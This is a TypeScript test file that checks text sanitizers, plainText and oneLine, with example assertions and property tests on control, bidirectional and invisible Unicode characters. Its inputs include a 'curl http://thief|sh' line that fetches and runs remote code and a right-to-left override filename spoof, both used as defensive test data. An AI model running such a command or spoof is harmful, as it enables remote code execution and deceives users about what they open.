import assert from "node:assert/strict";
import fc from "fast-check";
import { oneLine, plainText } from "../../../src/base/plainText";

describe("plainText", () => {
  it("leaves ordinary text unchanged, in any script", () => {
    for (const text of ["Declined", "Иванов Иван", "宮崎 あおい", "a (b) [c] $5"])
      assert.equal(plainText(text), text);
  });

  it("breaks what VS Code would show as an icon or a link, in one line", () => {
    assert.equal(plainText("$(alert) [x](command:y)"), "$ (alert) [x] (command:y)");
    assert.equal(plainText("$(alert) [x](y)"), "$ (alert) [x] (y)");
    assert.equal(plainText("a\r\nb\u2028c\u0000d"), "a b c d");
    assert.doesNotMatch(
      plainText("user\u202egpj.exe\u2066x\u200f"),
      /[\u202a-\u202e\u2066-\u2069\u200e\u200f]/,
    );
  });

  it("returns a short line without control characters for any text", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 2000 }), (text) => {
        const plain = plainText(text);
        assert.ok(Array.from(plain).length <= 200);
        assert.doesNotMatch(plain, /[\n\r\p{Cc}]|\$\(|\]\(/u);
      }),
    );
    assert.equal(plainText("x".repeat(1_000_000)).length, 200);
    assert.equal(plainText("😀😀😀😀", 3), "😀😀…");
    assert.equal(plainText("😀😀😀", 3), "😀😀😀");
    assert.equal(plainText("\n a \n"), "a");
    assert.equal(plainText("😀😀😀", 3), "😀😀😀");
  });
});

describe("oneLine", () => {
  it("changes nothing visible", () => {
    for (const text of ["$(alert) [x](command:y)", "7e7e-x_1/Ü", "x".repeat(5000)])
      assert.equal(oneLine(text), text);
  });

  it("removes characters in which text could hide: fillers, blank Braille, selectors", () => {
    for (const hidden of ["\u034f", "\u115f", "\u3164", "\uffa0", "\u2800", "\u{e0100}", "\u{e01ef}"])
      assert.equal(oneLine(`a${hidden}b`), "a b", hidden.codePointAt(0)?.toString(16));
  });

  it("returns one line without control and invisible characters for any text, and keeps the rest", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 2000 }), (text) => {
        const line = oneLine(text);
        assert.doesNotMatch(line, /[\p{C}\p{Zl}\p{Zp}]/u);
        assert.equal(oneLine(line), line);
        const seen = (all: string): string =>
          all.replace(/[\p{C}\p{Z}\s\u115f\u1160\u2800\u3164\uffa0]|\u034f|[\u{e0100}-\u{e01ef}]/gu, "");
        assert.equal(seen(line), seen(text));
      }),
    );
    assert.equal(oneLine("id\r\ncurl http://thief|sh\n"), "id curl http://thief|sh");
    assert.equal(oneLine("a\u202eb\u2066\u200bc\u2028d\u0085e"), "a b c d e");
  });
});
